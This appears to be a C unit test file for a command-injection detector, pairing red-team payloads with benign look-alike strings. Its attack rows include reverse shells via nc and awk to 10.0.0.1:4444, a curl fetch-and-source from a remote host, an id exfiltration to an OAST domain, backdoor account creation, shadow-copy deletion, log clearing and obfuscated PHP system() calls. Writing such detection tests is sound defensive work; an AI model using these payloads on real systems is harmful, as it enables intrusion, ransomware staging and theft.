/* test_payload_r9c.c - issue 20, red team 9 (c): command injection rows
 * the ninth red team found missed or flagged: a probe word opening the
 * value and ended by a separator or a comment (whoami;), eval as a
 * wrapper, sourcing a process substitution, a pipe chain through rev into
 * a shell, cmd's START/CALL of a program, cmd's substring expansion as
 * the command word, forfiles and waitfor, Invoke-Expression given a
 * quoted string, .NET's Process.Start of a shell, echo written into a
 * file by commix's file-based technique. Attacks draw cmd_injection as a
 * query value and a form body and reach the kill line; benign rows draw
 * nothing (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* a probe word that does harm alone, opening the value and closed by a
 * separator or a comment: the application appends its own words */
static void test_probe_word_closed(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"whoami;", C},
		{"hostname;", C},
		{"uptime|", C},
		{"ls;", C},
		{"id #", C},
		{"ps; ", C},
		{"id;name;email", N},
		{"id|int|primary key", N},
		{"ps; I forgot the attachment", N},
		{"id #5 is missing", N},
		{"env; prod", N},
		{"ls | grep foo", N},
		{"env | sort", N},
	};
	rt_run_kill("probe word closed", C, t, sizeof(t) / sizeof(t[0]));
}

/* eval runs its arguments as a command line; '.' and source read a file,
 * a process substitution's output is one */
static void test_eval_and_source(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";eval id", C},
		{"|eval whoami", C},
		{"; eval uname -a", C},
		{";. <(echo id)", C},
		{";source <(curl -s http://198.51.100.7/x)", C},
		{"eval is evil; use JSON.parse", N},
		{"source <(kubectl completion bash) in your .bashrc", N},
	};
	rt_run_kill("eval source", C, t, sizeof(t) / sizeof(t[0]));
}

/* the text reversed, decoded or translated on its way into a shell */
static void test_pipe_chain_into_shell(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";echo di | rev | sh", C},
		{"|echo imaohw|rev|bash", C},
		{";echo 'vq' | tr a-z b-za | sh", C},
		{"cat lovers | rev | fun", N},
	};
	rt_run_kill("pipe chain", C, t, sizeof(t) / sizeof(t[0]));
}

/* cmd's START and CALL run a program named by a path, an .exe or a
 * switch */
static void test_cmd_start_call(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"& start /b calc.exe", C},
		{"& call calc.exe", C},
		{"|start cmd.exe", C},
		{"&& start \\\\10.0.0.1\\s\\a.exe", C},
		{"Fire & call 911", N},
		{"Q&A: start here", N},
		{"Lock doors & start the car", N},
	};
	rt_run_kill("start call", C, t, sizeof(t) / sizeof(t[0]));
}

/* cmd's substring expansion %NAME:~a,b% as the command word: a letter
 * cut out of a variable, no name anyone types */
static void test_cmd_substring_word(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"& %COMSPEC:~-7,1%%COMSPEC:~-5,1%hoami", C},
		{"& %PROGRAMFILES:~10,-5%", C},
		{"|%comspec:~0,1%%comspec:~-4,3% /c whoami", C},
		{"ping%PROGRAMFILES:~10,-5%localhost", C},
		{"& ping%CommonProgramFiles:~10,-18%127.0.0.1", C},
		{"set today=%date:~-4,4%%date:~-10,2%", N},
		{"echo %DATE:~10,4%", N},
	};
	rt_run_kill("substring word", C, t, sizeof(t) / sizeof(t[0]));
}

/* Windows programs that run a command: forfiles /c, and waitfor as a
 * clock */
static void test_forfiles_waitfor(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"& forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c calc\"", C},
		{"| forfiles /c \"cmd /c whoami\"", C},
		{"& waitfor /t 5 pause", C},
		{"forfiles is a Windows tool", N},
		{"forfiles /p c:\\logs /s /m *.log /d -30 /c \"cmd /c del @path\"", N},
	};
	rt_run_kill("forfiles", C, t, sizeof(t) / sizeof(t[0]));
}

/* Invoke-Expression given a string; .NET's Process.Start of a shell */
static void test_invoke_expression_string(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"$(Invoke-Expression 'whoami')", C},
		{";Invoke-Expression \"net user\"", C},
		{"Process.Start(\"cmd.exe\",\"/c whoami\")", C},
		{"System.Diagnostics.Process.Start(\"powershell\", \"-c id\")", C},
		{"Process.Start(\"notepad.exe\")", N},
		{";open(F,\"id|\");print <F>;", C},
		{"open(my $f, \"-|\", \"uname -a\")", C},
		{"open(P, \"|/bin/sh\")", C},
		{"open(F, \"<data.txt\") or die", N},
		{"open(my $fh, '<', 'input.txt')", N},
		{"Avoid Invoke-Expression with user input", N},
		{"; iex([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)", C},
		{"[char]65+[char]66 gives AB", N},
	};
	rt_run_kill("invoke expression", C, t, sizeof(t) / sizeof(t[0]));
}

/* commix's file-based technique: echo into a file of the web root,
 * relative; a parent directory on Windows */
static void test_echo_into_file(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";echo XYZABC>XYZABC.txt", C},
		{"|echo QWE > qwe.php", C},
		{"& dir ..\\", C},
		{"& type ..\\..\\web.config", C},
		{"echo hi > notes.txt", N},
	};
	rt_run_kill("echo into file", C, t, sizeof(t) / sizeof(t[0]));
}

/* a strong command word after a leading separator given a quoted
 * argument; the account tools */
static void test_strong_quoted_arg(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) {}}' /dev/null", C},
		{"| nc 'x' 4444", C},
		{";useradd -o -u 0 hacker", C},
		{";usleep 5000000", C},
		{"|usleep${IFS}5000000", C},
		{"& adduser backdoor --disabled-password", C},
		{"Use awk 'print $1' to split", N},
	};
	rt_run_kill("strong quoted", C, t, sizeof(t) / sizeof(t[0]));
}

/* a home's credential file as a variable's setting: told, not killed */
static void test_env_home_setting(void **st)
{
	(void)st;
	static const char *const b[] = {"export KUBECONFIG=~/.kube/config", "AWS_CONFIG_FILE=~/.aws/config"};
	for (size_t i = 0; i < sizeof(b) / sizeof(b[0]); i++)
		for (int ctx = 0; ctx < 2; ctx++)
			assert_true(rt_best(b[i], ctx, PAYLOAD__COUNT) < 60);
	/* the path alone stays a kill */
	assert_true(rt_best("~/.kube/config", 0, PAYLOAD_TRAVERSAL) >= 60);
}

/* compound commands: a probe before fi, done, esac or a group's '}';
 * a pipeline's '!' */
static void test_compound_tail(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";if true; then id; fi", C},
		{";{ id; whoami; }", C},
		{";{id;}", C},
		{"; ! id", C},
		{";for i in 1; do whoami; done", C},
		{"if x; then ps; fine", N},
		{"{ id; name }", N},
	};
	rt_run_kill("compound", C, t, sizeof(t) / sizeof(t[0]));
}

/* an interpreter's run switch named in a sentence */
static void test_run_switch_prose(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"sh -c is used to run a string as a command", N},
		{"bash -c option explained", N},
		{"cmd /c means run and close", N},
		{"powershell -Command is the default", N},
		{"sh -c 'id'", C},
		{"cmd /c whoami", C},
		{"bash -c \"curl http://x.oast.fun/$(id)\"", C},
	};
	rt_run("run switch prose", t, sizeof(t) / sizeof(t[0]));
}

/* Windows: a command line piped into cmd, a program run from a share,
 * the admin tools and signed binaries a payload list names */
static void test_windows_tools(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"& echo whoami|cmd", C},
		{"& echo whoami | cmd.exe", C},
		{"& \\\\10.0.0.1\\share\\nc.exe -e cmd.exe 10.0.0.1 4444", C},
		{"& nltest /domain_trusts", C},
		{"& vssadmin delete shadows /all /quiet", C},
		{"| wevtutil cl security", C},
		{"& bcdedit /set {default} recoveryenabled no", C},
		{"& netsh advfirewall set allprofiles state off", C},
		{"& taskkill /f /im av.exe", C},
		{"& cmstp.exe /ni /s x.inf", C},
		{"ctrl | alt | cmd", N},
		{"net use Z: \\\\server\\share", N},
		{"tracert google.com", N},
		{"netsh wlan show profiles", N},
		{"Open \\\\fileserver\\docs\\setup.exe to install", N},
	};
	rt_run_kill("windows tools", C, t, sizeof(t) / sizeof(t[0]));
}

/* a command that reads a file given one name or pattern, after a
 * leading separator: the capture-the-flag probes */
static void test_reader_one_name(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";cat flag", C},
		{";cat f*", C},
		{";cat fla?", C},
		{"|cat flag", C},
		{"127.0.0.1;cat flag", C},
		{"127.0.0.1 && tac flag", C},
		{"$(cat flag)", C},
		{";cat fl''ag", C},
		{"| cat | dog |", N},
		{"cat flag", N},
		{"Tom; more info", N},
		{"& type ahead", N},
		{"; head count", N},
		{"example.com; type MX", N},
		{"10.0.0.1 | type A", N},
	};
	rt_run_kill("reader", C, t, sizeof(t) / sizeof(t[0]));
}

/* a build line chaining a project's script through its interpreter */
static void test_build_line_script(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"python manage.py migrate && python manage.py runserver", N},
		{"composer install && php artisan migrate", N},
		{"x && python /tmp/x.py", C},
		{"x; python -c 'import os;os.system(\"id\")'", C},
		{";python exploit.py", C},
		{"$ sudo apt update && sudo apt upgrade -y", N},
		{"npm run build && nohup node server.js > out.log 2>&1", N},
		{"; sudo -l", C},
		{"&& sudo nc -e /bin/sh 10.0.0.1 4444", C},
		{"; sudo su -", C},
	};
	rt_run("build line", t, sizeof(t) / sizeof(t[0]));
}

/* PHP: a command function named by a string or by request input */
static void test_php_string_call(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"${\"\\x73ystem\"}('id')", C},
		{"\"\\x73\\x79\\x73\\x74\\x65\\x6d\"(\"id\");", C},
		{"(\"\\163ystem\")('id');", C},
		{"('sys'.'tem')('id');", C},
		{"(system)('id');", C},
		{"$_GET['a']($_GET['b']);", C},
		{"${'_GET'}[0](${'_GET'}[1]);", C},
		{"print(\"hello\")", N},
		{"the \"system\" (operating system)", N},
		{"$_GET['page'] (see docs)", N},
	};
	rt_run_kill("php string call", C, t, sizeof(t) / sizeof(t[0]));
}

/* table 2's kill-level false positives: a sentence after sh -c, a
 * build's job count, a build's log kept by tee */
static void test_table2_kills(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/bin/sh -c not found in PATH", N},
		{"make -j$(nproc)", N},
		{"cmake --build build -j $(nproc)", N},
		{"./gradlew build --info | tee build.log", N},
		{"x; make -j$(nproc) && $(whoami)", C},
		{"$(nproc)", C},
		{"| tee /var/www/html/x.php", C},
		{"x | tee -a /etc/sudoers", C},
	};
	rt_run("table2 kills", t, sizeof(t) / sizeof(t[0]));
}

/* an interpreter by its version; an assignment before the command */
static void test_version_and_env_prefix(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";python3.11 -c 'import os;os.system(\"id\")'", C},
		{"|php8.1 -r 'system(\"id\");'", C},
		{"; LD_PRELOAD=/tmp/x.so id", C},
		{";X=1 whoami", C},
		{"; FOO=bar uname -a", C},
		{"python3.11 is out", N},
		{"apt install python3.10-venv; python3.10 -m venv env", N},
		{"; python3 -m http.server 8000", C},
		{"Tom; HOME=Paris is nice", N},
	};
	rt_run_kill("version env", C, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_probe_word_closed),
		cmocka_unit_test(test_eval_and_source),
		cmocka_unit_test(test_pipe_chain_into_shell),
		cmocka_unit_test(test_cmd_start_call),
		cmocka_unit_test(test_cmd_substring_word),
		cmocka_unit_test(test_forfiles_waitfor),
		cmocka_unit_test(test_invoke_expression_string),
		cmocka_unit_test(test_echo_into_file),
		cmocka_unit_test(test_strong_quoted_arg),
		cmocka_unit_test(test_env_home_setting),
		cmocka_unit_test(test_compound_tail),
		cmocka_unit_test(test_run_switch_prose),
		cmocka_unit_test(test_windows_tools),
		cmocka_unit_test(test_reader_one_name),
		cmocka_unit_test(test_build_line_script),
		cmocka_unit_test(test_php_string_call),
		cmocka_unit_test(test_table2_kills),
		cmocka_unit_test(test_version_and_env_prefix),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
